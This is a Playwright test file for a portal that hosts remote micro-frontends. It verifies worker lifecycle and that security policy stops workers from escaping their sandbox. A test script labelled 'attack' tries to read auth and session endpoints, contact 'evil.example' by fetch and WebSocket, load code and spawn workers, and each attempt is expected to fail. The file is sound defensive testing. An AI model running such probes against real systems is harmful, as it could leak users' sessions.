import type { Page, Worker } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { type Portal, people } from '../pages/portal.ts';
import { echo, nextVersion, shipWorkerProbe } from '../pages/worker-probe.ts';

const workersOf = (page: Page): Worker[] =>
  page.workers().filter((each) => each.url().includes('/mfe-probe/'));

for (const type of ['classic', 'module'] as const)
  test(`a ${type} worker runs in the document that its page gets, whatever page comes before`, async ({
    page,
    portal,
    fleet,
  }) => {
    await shipWorkerProbe(fleet, nextVersion(), 'worker');
    await page.addInitScript((kind) => Object.assign(globalThis, { workerOptions: { type: kind } }), type);
    await portal.signIn(people.owner, '/c/1/applications');
    await page.evaluate(() => Object.assign(window, { formerDocument: true }));
    await portal.open('Probe');
    await expect(page.getByText('The worker says it got start')).toBeVisible();
    expect(await page.evaluate(() => 'formerDocument' in window)).toBe(false);
    await page.evaluate(() => Object.assign(window, { formerDocument: true }));
    await portal.open('Rewards');
    await expect(portal.heading).toHaveText('Rewards');
    await portal.open('Probe');
    await expect(page.getByText('The worker says it got start')).toBeVisible();
    expect(await page.evaluate(() => 'formerDocument' in window)).toBe(true);
  });

const ends: Record<string, (portal: Portal, page: Page) => Promise<unknown>> = {
  'another customer is chosen': (portal) => portal.chooseCustomer('Globex'),
  'the person signs out': async (portal, page) => {
    await portal.account.click();
    await page.getByRole('button', { name: 'Sign out' }).click();
  },
};

for (const [cause, end] of Object.entries(ends))
  test(`when ${cause}, the workers of a remote end`, async ({ page, portal, fleet }) => {
    await shipWorkerProbe(fleet, nextVersion(), 'worker', `${echo} setInterval(postMessage, 20, 'more');`);
    await portal.signIn(people.owner, '/c/1/probe');
    await expect(page.getByText('The worker says more')).toBeVisible();
    const [former] = workersOf(page);
    const ended = former?.waitForEvent('close');
    await end(portal, page);
    await ended;
    expect(workersOf(page)).not.toContain(former);
  });

/** Code of a remote tries each of these in a page. */
const attempts = {
  'object URL': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  'data URL': () => new Worker('data:text/javascript,postMessage(1)'),
  'another script of the portal': () => new Worker('/assets/shell/1.0.0/main.js'),
  'another host': () => new Worker('https://evil.example/main.js'),
  'shared worker': () => new SharedWorker('/assets/x.js'),
  'service worker': () => navigator.serviceWorker.register('/assets/x.js'),
};

for (const path of ['/c/1/probe', '/c/1/applications'])
  test(`a page starts no worker but those of its release set: ${path}`, async ({
    page,
    portal,
    fleet,
    quietConsole,
  }) => {
    quietConsole.allow(/Trusted ?Types?|TrustedScript|Content Security Policy/i);
    await shipWorkerProbe(fleet, nextVersion(), 'worker');
    await portal.signIn(people.owner, path);
    if (path === '/c/1/probe') await expect(page.getByText('The worker says it got start')).toBeVisible();
    else await expect(page.getByRole('table')).toBeVisible();
    for (const [name, attempt] of Object.entries(attempts)) {
      const outcome = page.evaluate(`(async () => void (await (${attempt})()))()`);
      await expect(outcome, name).rejects.toThrow();
    }
  });

/** What the script of a worker may try; each attempt ends with an error. */
const attack = `
  const failing = (start) => new Promise((done, failed) => { const tried = start(); tried.onerror = failed; tried.onopen = tried.onmessage = done; });
  const attempts = {
    api: () => fetch('/customer-portal/auth/me'),
    session: () => fetch('/api/auth/session'),
    file: () => fetch(location.href),
    host: () => fetch('https://evil.example/'),
    socket: () => failing(() => new WebSocket('wss://evil.example/')),
    script: () => importScripts(location.href),
    module: () => import(location.href),
    text: () => eval('1'),
    nested: () => failing(() => new Worker(location.href)),
    object: () => failing(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
  };
  onmessage = async () => {
    const allowed = [];
    for (const [name, attempt] of Object.entries(attempts)) try { await attempt(); allowed.push(name); } catch {}
    postMessage('allowed: ' + allowed.join());
  };`;

test('a worker reaches neither the API nor another host, loads no code and starts no worker', async ({
  page,
  portal,
  fleet,
  quietConsole,
}) => {
  quietConsole.allow(/Content Security Policy|Refused|violates|mfe-probe/i);
  await shipWorkerProbe(fleet, nextVersion(), 'worker', attack);
  await portal.signIn(people.owner, '/c/1/probe');
  await expect(page.getByText('The worker says allowed:')).toHaveText('The worker says allowed:');
});
